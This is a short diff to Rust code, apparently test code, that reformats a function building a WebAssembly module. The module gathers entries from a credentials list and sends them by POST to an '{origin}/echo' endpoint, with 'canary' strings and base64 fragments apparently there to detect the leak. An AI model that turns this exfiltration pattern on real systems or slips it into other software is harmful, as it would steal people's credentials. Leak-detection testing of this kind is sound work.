@@ -27,11 +27,12 @@ const FORMS: [&str; 5] = ["canary", "Canary", "Y2FuYXJ5", "NhbmFye", "jYW5hcn"];
 fn hoarder(origin: &str) -> Vec<u8> {
     let mut ask = String::new();
     // One route: /x.
-    let mut fields =
-        format!("(data (i32.const 516) \"\\00\\03\\00\\00\\01\")
+    let mut fields = format!(
+        "(data (i32.const 516) \"\\00\\03\\00\\00\\01\")
          (data (i32.const 768) \"\\00\\05\\00\\00\\02\")
          (data (i32.const 1280) \"/x\")
-         (data (i32.const 3000) \"POSTdump\") (data (i32.const 3100) \"{origin}/echo\")");
+         (data (i32.const 3000) \"POSTdump\") (data (i32.const 3100) \"{origin}/echo\")"
+    );
     for (n, name) in CREDENTIALS.iter().enumerate() {
         let (at, name_at) = (4608 + 56 * n, 3200 + 16 * n);
         let mut store = |offset: usize, value: usize| {
